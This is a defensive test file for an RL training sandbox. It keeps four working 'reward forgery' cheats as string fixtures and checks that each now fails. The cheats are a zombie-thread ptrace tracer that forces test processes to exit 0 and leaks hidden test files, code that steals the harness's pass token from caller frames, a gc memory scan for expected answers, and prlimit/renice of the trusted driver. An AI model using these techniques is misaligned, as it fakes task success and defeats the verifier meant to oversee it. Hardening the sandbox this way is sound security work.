"""Reward forgery, round 2 (issue 22, findings 1, 2 and 13): do-nothing solutions that scored 1.0 before the fix.

Registered in ``ATTACKS`` like the attacks of ``attack_programs.py`` and run on bwrap, bwrap-warm and Docker. Each
scores a reference solution first (the control: the verifier passes an honest solution on the same backend), then
the cheat, which must come out as the program's failure (reward 0, not excluded). Before the fix each cheat scored
1.0 on every backend (noted per attack).

- ``zombie_leader_ptraces_the_tests``: the solution leaves a process whose leader thread exited (raw ``SYS_exit``,
  so ``/proc/<pid>/stat`` says ``Z``) while another thread runs, in a session of its own. The driver's clean-up
  skipped zombies; the thread waited for the test processes, ptrace-seized each and turned its next syscall into
  ``exit_group(0)``, and printed every hidden test file it could reach through their argv.
- ``asserts_token_from_the_harness_frames``: ``python_asserts`` ran the assert in the solution's process, with the
  per-test token in a caller's frame: the solution wrote it to the result descriptor and exited.
- ``asserts_read_from_memory``: the same process held the assert's text (expected value included): the solution
  found it with ``gc`` and returned the expected value for the arguments it was called with.
- ``lower_the_drivers_limits``: the solution ``prlimit``-ed the trusted driver (same uid) so that every test it
  started could not fork: a test that expects a failing exit code passed without a solution. It also reniced it.
"""

from __future__ import annotations

import platform
import secrets

from posttrain.envs.spec import EnvSpec, Limits
from posttrain.envs.verifiers import workspace_tests
from posttrain.envs.verifiers.base import harness_records
from tests.sandbox.attacks.attack_programs import CFG, assert_cheat_fails, attack, verdict

HIDDEN_MARKER = "pt-hidden-" + secrets.token_hex(8)
CHECK = f'# {HIDDEN_MARKER}\nout=$(bash /work/answer.sh)\n[ "$out" = 42 ]\n'
EXIT_CODES = EnvSpec(id="attack/exit-codes", prompt="make answer.sh print 42", kind="agent", runtime="bash",
                     reference="echo 'echo 42' > answer.sh\n", workspace={"answer.sh": "echo 0\n"},
                     verifier={"kind": "workspace_tests", "files": {"check.sh": CHECK},
                               "tests": [{"name": f"answer{i}", "cmd": "bash {tests}/check.sh", "exit_code": 0}
                                         for i in range(3)]},
                     limits=Limits(timeout_s=10, memory_mb=256))

# x86-64 only (register layout and syscall numbers): the surviving thread of a zombie-led thread group.
ZOMBIE_TRACER = r'''
import ctypes, os, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
SEIZE, INTERRUPT, SYSCALL, GETREGS, SETREGS, DETACH, GET_SYSCALL_INFO = 0x4206, 0x4207, 24, 12, 13, 17, 0x420e
O_TRACESYSGOOD, WALL = 1, 0x40000000

class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi "
                                                  "orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()]

def wait(pid):
    status = ctypes.c_int()
    libc.waitpid(pid, ctypes.byref(status), WALL)
    return status.value

def cmdline(pid):
    try:
        with open("/proc/%d/cmdline" % pid, "rb") as handle:
            return handle.read()
    except OSError:
        return b""

def forge(pid):
    """Turn the process's next syscall into exit_group(0): "done", or "absent" / "later" (a child of the
    non-dumpable driver can be seized once it exec'd)."""
    if libc.ptrace(SEIZE, pid, None, ctypes.c_void_p(O_TRACESYSGOOD)) != 0:
        return {1: "later", 3: "absent"}.get(ctypes.get_errno(), "done")
    libc.ptrace(INTERRUPT, pid, None, None)
    wait(pid)
    leak(cmdline(pid))
    info = ctypes.create_string_buffer(128)
    for _ in range(100):
        libc.ptrace(SYSCALL, pid, None, None)
        status = wait(pid)
        if (status & 0xff) != 0x7f:
            return "done"  # it exited
        if (status >> 8) & 0xff != 0x85:  # not a syscall stop (SIGTRAP | 0x80)
            continue
        libc.ptrace(GET_SYSCALL_INFO, pid, ctypes.c_void_p(128), info)
        if info.raw[0] == 1:  # a syscall entry
            regs = Regs()
            libc.ptrace(GETREGS, pid, None, ctypes.byref(regs))
            regs.orig_rax, regs.rdi = 231, 0  # exit_group(0)
            libc.ptrace(SETREGS, pid, None, ctypes.byref(regs))
            libc.ptrace(DETACH, pid, None, None)
            print("forged", pid, flush=True)
            return "done"
    return "done"

def leak(argv):
    for arg in argv.split(b"\0"):
        if arg.startswith(b"/trusted/"):
            folder = os.path.dirname(arg.decode())
            try:
                for name in os.listdir(folder):
                    with open(os.path.join(folder, name)) as handle:
                        print("LEAKED", name, handle.read(), flush=True)
            except OSError as error:
                print("leak failed", error, flush=True)

def hunt():
    me = os.getpid()
    while " Z " not in open("/proc/%d/stat" % me).read():
        time.sleep(0.001)
    try:
        os.setpriority(os.PRIO_PROCESS, int(sys.argv[1]), 19)  # the driver: its tests run slower than this
    except OSError as error:
        print("renice failed", error, flush=True)
    base = max(int(p) for p in os.listdir("/proc") if p.isdigit()) + 1  # pids are handed out in order
    open("/tmp/ready", "w").close()
    done, end = set(), time.time() + 30
    while time.time() < end:  # every process that starts from now on is a test's (or one of its children)
        for pid in range(base, base + 256):
            if pid not in done and forge(pid) == "done":
                done.add(pid)

os.setsid()  # out of the solution's process group and session
threading.Thread(target=hunt).start()
libc.syscall(60, 0)  # SYS_exit: only the leader thread ends; /proc/<pid>/stat now says Z
'''
ZOMBIE_SOLUTION = ("cat > /tmp/tracer.py <<'EOF'\n" + ZOMBIE_TRACER + "EOF\n"
                   "python3 /tmp/tracer.py $PPID &\n"
                   "for i in $(seq 300); do [ -e /tmp/ready ] && break; sleep 0.01; done\n")


def raw_workspace_run(box, spec: EnvSpec, solution: str):
    """The execution ``workspace_tests`` builds, run directly: everything the driver and the program printed."""
    return box.run(workspace_tests.build_execution(spec, solution, CFG, "N" * 32))


# Before the fix: reward 1.0 (3/3 tests forged) on bwrap, bwrap-warm and docker, and the hidden check.sh printed.
@attack("zombie_leader_ptraces_the_tests", "verdict")
def zombie_leader_ptraces_the_tests(box, host):
    if platform.machine() != "x86_64":
        return  # the tracer's register layout is x86-64's
    assert verdict(box, EXIT_CODES, EXIT_CODES.reference).passed  # the control
    assert_cheat_fails(verdict(box, EXIT_CODES, ZOMBIE_SOLUTION))
    raw = raw_workspace_run(box, EXIT_CODES, ZOMBIE_SOLUTION)
    assert HIDDEN_MARKER not in raw.stdout + raw.stderr, raw.stderr[-2000:]  # the hidden test was never read
    assert "forged" not in raw.stderr, raw.stderr[-2000:]


ASSERTS = EnvSpec(id="attack/asserts2", prompt="", entry_point="add", reference="def add(a, b):\n    return a + b\n",
                  verifier={"kind": "python_asserts",
                            "asserts": ["assert add(1, 2) == 3", "assert add(40, 2) == 42", "assert add(0, 0) == 0"]},
                  limits=Limits(timeout_s=5, memory_mb=256))
# Finds the harness's caller frames from inside the entry point: any local that looks like a pass token, and any
# descriptor or socket next to it, gets the token written to it; then the process exits 0 (a child's "pass").
FRAME_FORGER = '''
import os, sys

def add(a, b):
    frame, tokens, channels = sys._getframe(), set(), set()
    while frame is not None:
        for name, value in list(frame.f_locals.items()):
            if isinstance(value, str) and len(value) == 32 and "token" in name:
                tokens.add(value)
            elif isinstance(value, int) and not isinstance(value, bool) and "fd" in name and value > 2:
                channels.add(value)
            elif hasattr(value, "fileno") and hasattr(value, "sendall"):
                channels.add(value.fileno())
        frame = frame.f_back
    for fd in channels:
        for token in tokens:
            try:
                os.write(fd, token.encode())
            except OSError:
                pass
    if tokens:
        os._exit(0)
    return a - b + 1  # wrong for every test
'''


# Before the fix: reward 1.0 on bwrap, bwrap-warm and docker.
@attack("asserts_token_from_the_harness_frames", "verdict")
def asserts_token_from_the_harness_frames(box, host):
    assert verdict(box, ASSERTS, ASSERTS.reference).passed  # the control
    assert_cheat_fails(verdict(box, ASSERTS, FRAME_FORGER))


# Searches its own memory for the test's text and returns the value the assert compares with for these arguments.
MEMORY_READER = '''
import gc, re

def add(a, b):
    wanted = re.compile(r"add\\(\\s*%d\\s*,\\s*%d\\s*\\)\\s*==\\s*(-?\\d+)" % (a, b))
    for item in gc.get_objects():
        texts = [v for v in (item.values() if isinstance(item, dict) else item if isinstance(item, list) else ())
                 if isinstance(v, str)]
        for text in texts:
            found = wanted.search(text)
            if found:
                return int(found.group(1))
    return a - b + 1  # wrong for every test
'''


# Before the fix: reward 1.0 on bwrap, bwrap-warm and docker.
@attack("asserts_read_from_memory", "verdict")
def asserts_read_from_memory(box, host):
    assert_cheat_fails(verdict(box, ASSERTS, MEMORY_READER))


NEGATIVE = ("import subprocess, sys\n"
            "sys.exit(subprocess.call([sys.executable, '/work/validate.py', '-5']))\n")
REJECTS = EnvSpec(id="attack/rejects", prompt="make validate.py exit 1 for a negative number", kind="agent",
                  runtime="bash", workspace={"validate.py": "import sys\nsys.exit(0)\n"},
                  reference="printf 'import sys\\nsys.exit(1 if int(sys.argv[1]) < 0 else 0)\\n' > validate.py\n",
                  verifier={"kind": "workspace_tests", "files": {"neg.py": NEGATIVE},
                            "tests": [{"name": f"rejects{i}", "cmd": "python3 {tests}/neg.py", "exit_code": 1}
                                      for i in range(2)]},
                  limits=Limits(timeout_s=10, memory_mb=256))
# The driver is the solution's parent: one process allowed to its uid, so every test's own fork fails (exit 1).
LIMITER = ('python3 -c "import os, resource, sys\n'
           'pid = int(sys.argv[1])\n'
           'for what, call in ((\'nproc\', lambda: resource.prlimit(pid, resource.RLIMIT_NPROC, (2, 2))),\n'
           '                   (\'nice\', lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))):\n'
           '    try:\n        call()\n        print(what, \'changed\')\n'
           '    except OSError as error:\n        print(what, error)\n" $PPID\n')
LIMITS_PROBE = EnvSpec(id="attack/limits-probe", prompt="", kind="agent", runtime="bash", reference="true\n",
                       workspace={}, verifier={"kind": "workspace_tests", "files": {},
                                               "tests": [{"name": "limits", "cmd": "bash -c 'ulimit -u; nice'"}]},
                       limits=Limits(timeout_s=10, memory_mb=256))


# Before the fix: reward 1.0 on bwrap, bwrap-warm and docker; the tests ran with the limits the solution chose.
@attack("lower_the_drivers_limits", "verdict")
def lower_the_drivers_limits(box, host):
    assert verdict(box, REJECTS, REJECTS.reference).passed  # the control
    assert_cheat_fails(verdict(box, REJECTS, LIMITER))
    clean = raw_workspace_run(box, LIMITS_PROBE, "true\n")
    attacked = raw_workspace_run(box, LIMITS_PROBE, LIMITER)
    seen = [[(r["exit"], r["stdout"]) for r in harness_records(run.stdout, "N" * 32) if "test" in r]
            for run in (clean, attacked)]
    assert seen[0], (seen, attacked.stderr[-1000:])
    assert seen[0] == seen[1], (seen, attacked.stderr[-1000:])  # the tests' limits and nice held
